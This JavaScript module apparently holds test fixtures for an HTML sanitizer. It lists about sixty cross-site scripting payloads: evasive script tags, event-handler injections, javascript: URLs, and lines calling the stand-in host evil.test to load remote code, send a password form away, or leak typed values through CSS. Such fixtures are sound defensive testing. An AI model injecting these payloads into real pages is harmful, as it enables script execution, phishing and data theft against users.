import { texts } from './hostile-document.js';

/** Elements and event handlers in spellings that a parser may accept and a filter may miss. */
export const ELEMENTS = texts({
  'a script': '<script>alert(1)</script>',
  'a script in mixed case with spaces': '<ScRipT \t>alert(1)</sCriPt \n>',
  'a script with a slash for a space': '<script/x>alert(1)</script>',
  'a script inside a broken script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script after an unclosed tag': '<b <script>alert(1)</script>',
  'a script after two opening points': '<<script>alert(1);//<</script>',
  'a script that ends in a comment': '<script>alert(1)//',
  'a script from elsewhere without quotation marks': '<script src=//evil.test/x.js></script>',
  'a script as a module': '<script type=module>import("https://evil.test/x.js")</script>',
  'a script as an import map':
    '<script type=importmap>{"imports":{"a":"https://evil.test"}}</script>',
  'rules of speculation':
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.test"]}]}</script>',
  'a script across blocks': 'a <script>\n\nalert(1)\n\n</script> b',
  'a script in a list item': '- <script>alert(1)</script>\n  <script>alert(2)</script>',
  'a script in a cell': '| a |\n|---|\n| <script>alert(1)</script> |',
  'a script in a footnote': 'a[^x]\n\n[^x]: <script>alert(1)</script>',
  'a script in a quotation that goes on lazily': '> <script>\nalert(1)\n</script>',
  'a picture with a handler': '<img src=x onerror=alert(1)>',
  'a picture with slashes for spaces': '<img/src=x/onerror=alert(1)//',
  'a picture with a handler before its address': '<img onerror="alert(1)"src=x>',
  'a picture whose handler follows a line feed': '<img src=x\nonerror=alert(1)>',
  'a picture with backquotes': '<img src=`x`onerror=alert(1)>',
  'a picture whose quotation never ends': '<img src="x onerror=alert(1)>',
  'a picture with a set of addresses': '<img srcset="https://evil.test/x 1x" onload=alert(1)>',
  'a picture by another name': '<image src=x onerror=alert(1)>',
  'a body that loads': '<body onload=alert(1) onpageshow=alert(2)>',
  'a field that takes the focus': '<input autofocus onfocus=alert(1)>',
  'an editable box that takes the focus': '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  'a box that is animated': '<div style="animation:x 1s" onanimationstart=alert(1)>x</div>',
  'a box that is dragged': '<div draggable=true ondragstart=alert(1)>x</div>',
  'a box under the pointer':
    '<div onpointerrawupdate=alert(1) style=position:fixed;inset:0>x</div>',
  'details that open': '<details open ontoggle=alert(1)>x</details>',
  'a popover':
    '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>',
  'a dialog that is open': '<dialog open oncancel=alert(1)>x</dialog>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'a video without a source': '<video><source onerror=alert(1)></video>',
  'a sound that ends': '<audio src=x onerror=alert(1) autoplay></audio>',
  'a frame with a document of its own':
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'a frame with a script for an address': '<iframe src="javascript:alert(1)"></iframe>',
  'a set of frames': '<frameset><frame src=//evil.test></frameset>',
  'an object': '<object data="javascript:alert(1)"></object>',
  'an embedded file': '<embed src="//evil.test/x.swf" allowscriptaccess=always>',
  'a form that leads away':
    '<form action=//evil.test><input type=password><button>Log in</button></form>',
  'a button that leads away': '<button form=search formaction="javascript:alert(1)">x</button>',
  'a button for the form of the page': '<input type=submit formaction=//evil.test value=Search>',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a base': '<base href=//evil.test/ target=_top>',
  'a link to a style sheet': '<link rel=stylesheet href=//evil.test/x.css>',
  'a link that fetches ahead':
    '<link rel=prefetch href=//evil.test><link rel=dns-prefetch href=//evil.test>',
  'a style that covers the page': '<style>*{position:fixed;inset:0;background:red}</style>',
  'a style that tells what is typed':
    '<style>input[value^=a]{background:url(//evil.test/a)}</style>',
  'a style attribute': '<p style="position:fixed;inset:0;z-index:9">x</p>',
  'an imported style': '<style>@import "//evil.test/x.css";</style>',
  'a template with a shadow':
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  'a custom element': '<x-y is=button onclick=alert(1) style=display:block>z</x-y>',
  'an area of a map':
    '<img usemap=#m src=x><map name=m><area href="javascript:alert(1)" coords=0,0,9,9></map>',
  'a portal': '<portal src=//evil.test onload=alert(1)></portal>',
  'a fenced frame': '<fencedframe mode=opaque-ads></fencedframe>',
});
